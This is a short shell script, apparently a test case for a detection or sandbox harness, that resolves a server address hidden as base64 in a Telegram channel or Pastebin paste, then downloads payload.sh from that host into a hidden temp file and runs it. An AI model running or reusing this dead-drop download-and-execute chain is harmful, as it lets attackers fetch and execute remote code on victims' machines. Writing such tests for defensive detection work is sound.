#!/bin/sh
. /opt/case/case.sh

p=$(curl -s http://t.me/s/somechannel777; curl -s http://pastebin.com/raw/x7bAiT00)
n=$(echo "$p" | sed -n 's/.*\[\[\(.*\)\]\].*/\1/p' | base64 -d 2>/dev/null); n=${n:-203.0.113.10}
curl -s "http://$n/payload.sh" -o /tmp/.n && sh /tmp/.n
test -e /tmp/reached
took_place
